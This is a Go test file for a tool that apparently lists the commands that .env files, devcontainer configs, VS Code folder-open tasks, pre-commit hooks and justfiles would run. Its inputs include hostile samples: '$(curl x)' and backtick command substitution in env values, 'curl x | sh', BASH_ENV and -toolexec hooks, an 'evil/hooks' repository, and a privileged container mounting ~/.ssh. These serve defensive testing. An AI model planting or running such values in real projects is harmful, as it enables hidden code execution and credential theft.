package cmdline

import (
	"slices"
	"testing"
)

func TestDotenvLines(t *testing.T) {
	for _, tt := range []struct {
		text string
		want []string
	}{
		{"PORT=3000\nDATABASE_URL=postgres://u:p@h/db?a=1&b=2\nGITHUB_TOKEN=ghp_x\n", nil}, // they run nothing
		{"# a comment\n\nexport PAGER='a $b'\nPATH=\"bin:$PATH\" \nNODE_OPTIONS=--max-old-space-size=4096 # note\n",
			[]string{`export PAGER='a $b'`, `export PATH="bin:$PATH"`, `export NODE_OPTIONS="--max-old-space-size=4096"`}},
		{"BASH_ENV=./.hook.sh\n", []string{`export BASH_ENV="./.hook.sh"`, `. "./.hook.sh"`}},
		{"ENV=\"e.sh\"\nBASH_ENV=\n", []string{`export ENV="e.sh"`, `export BASH_ENV=""`, `. "e.sh"`}},
		{"EDITOR=$(curl x)\nVISUAL=`id`\n", []string{`export EDITOR="\$(curl x)"`, "export VISUAL=\"\\`id\\`\""}},
		{"not a line\n1X=2\n", nil},
		// a build's programs, a package index less its password, the docker daemon (env65)
		{"CC=clang\nGOFLAGS=-toolexec=./x\nnpm_config_script_shell=./x\nMAVEN_OPTS=-Xmx2g\nCFLAGS=-O2\n",
			[]string{`export CC="clang"`, `export GOFLAGS="-toolexec=./x"`, `export npm_config_script_shell="./x"`, `export MAVEN_OPTS="-Xmx2g"`}},
		{"PIP_INDEX_URL=https://u:s3cret@x.example/simple\nDOCKER_HOST=ssh://u@h\nCOMPOSE_FILE=a.yml:b.yml\nNPM_CONFIG_REGISTRY='http://t@x.example/'\n",
			[]string{`export PIP_INDEX_URL="https://x.example/simple"`, `export DOCKER_HOST="ssh://u@h"`, `export COMPOSE_FILE="a.yml:b.yml"`, `export NPM_CONFIG_REGISTRY='http://x.example/'`}},
	} {
		if got := dotenvLines(tt.text); !slices.Equal(got, tt.want) {
			t.Errorf("dotenvLines(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}

func TestStripJSONComments(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`{"a": 1, // one` + "\n" + `"b": "x // y", /* two */ }`, `{"a": 1, ` + "\n" + `"b": "x // y"   }`},
		{`["a\"//", 2,]`, `["a\"//", 2]`},
		{`{"a": [1, 2, /* last */ ], }`, `{"a": [1, 2   ] }`},
	} {
		if got := stripJSONComments(tt.in); got != tt.want {
			t.Errorf("stripJSONComments(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestDevcontainerLines(t *testing.T) {
	for _, tt := range []struct {
		name, text, sub string
		want            []string
	}{
		{"host command and lifecycle", `{
			// JSON with comments
			"image": "alpine",
			"initializeCommand": "mkdir -p ${localEnv:HOME}/.cache/x",
			"postCreateCommand": ["npm", "ci"],
			"postStartCommand": {"a": "echo a", "b": ["echo", "b"]},
		}`, "up", []string{
			"mkdir -p ${HOME}/.cache/x",
			`docker run --rm -v "$PWD":/workspaces/project 'alpine' sh -c ''\''npm'\'' '\''ci'\''` + "\n" + `echo a` + "\n" + `'\''echo'\'' '\''b'\'''`,
		}},
		{"mounts and runArgs", `{"image": "alpine", "mounts": ["source=${localEnv:HOME}/.ssh,target=/s,type=bind", {"source": "${localWorkspaceFolder}/d", "target": "/d", "type": "bind"}], "runArgs": ["--pid=host"], "privileged": true}`, "up", []string{
			`docker run --rm -v "$PWD":/workspaces/project --mount "source=${HOME}/.ssh,target=/s,type=bind" --mount "type=bind,source=$PWD/d,target=/d" "--pid=host" --privileged 'alpine'`,
		}},
		{"run-user-commands runs no host command", `{"image": "alpine", "initializeCommand": "curl x", "onCreateCommand": "make"}`, "run-user-commands", []string{
			`docker run --rm -v "$PWD":/workspaces/project 'alpine' sh -c 'make'`,
		}},
		{"compose", `{"dockerComposeFile": ["../compose.yaml"], "service": "app", "postCreateCommand": "make"}`, "up", []string{
			`docker compose -f 'compose.yaml' up -d`,
			`docker compose -f 'compose.yaml' exec 'app' sh -c 'make'`,
		}},
		{"Dockerfile", `{"build": {"dockerfile": "Dockerfile", "context": ".."}}`, "build", []string{
			`docker build -f '.devcontainer/Dockerfile' '.'`,
			`docker run --rm -v "$PWD":/workspaces/project 'devcontainer'`,
		}},
		{"not JSON", `{"image": `, "up", nil},
	} {
		if got := devcontainerLines(tt.text, ".", ".devcontainer", tt.sub); !slices.Equal(got, tt.want) {
			t.Errorf("%s: devcontainerLines = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestFolderOpenTasks(t *testing.T) {
	text := `{"version": "2.0.0", "tasks": [
		{"label": "watch", "type": "shell", "command": "npm run watch", "runOptions": {"runOn": "folderOpen"}},
		{"label": "proc", "type": "process", "command": "./x", "args": ["a b"], "runOptions": {"runOn": "folderOpen"}},
		{"label": "build", "type": "shell", "command": "curl x | sh"}, // runs when asked
	]}`
	want := []string{"npm run watch", `'./x' 'a b'`}
	if got := folderOpenTasks(text); !slices.Equal(got, want) {
		t.Errorf("folderOpenTasks = %q, want %q", got, want)
	}
}

func TestPreCommitRemotes(t *testing.T) {
	text := "repos:\n- repo: https://github.com/astral-sh/ruff-pre-commit\n  rev: v0.8.0\n- repo: local\n  hooks: []\n- repo: https://x.example/evil/hooks\n  rev: v1\n"
	want := []string{"pip install 'git+https://x.example/evil/hooks'"}
	if got := preCommitRemotes(text); !slices.Equal(got, want) {
		t.Errorf("preCommitRemotes = %q, want %q", got, want)
	}
}

func TestJustDotenvSetting(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"set dotenv-load\na:\n\techo", ".env"},
		{"set dotenv-load := true\n", ".env"},
		{"set dotenv-load := false\n", ""},
		{"set dotenv-filename := \".env.dev\"\n", ".env.dev"},
		{"set dotenv-path := 'conf/x.env'\nset dotenv-load\n", "conf/x.env"},
		{"set shell := [\"bash\", \"-c\"]\n", ""},
	} {
		if got := parseJustfile(tt.text).dotenv; got != tt.want {
			t.Errorf("parseJustfile(%q).dotenv = %q, want %q", tt.text, got, tt.want)
		}
	}
}
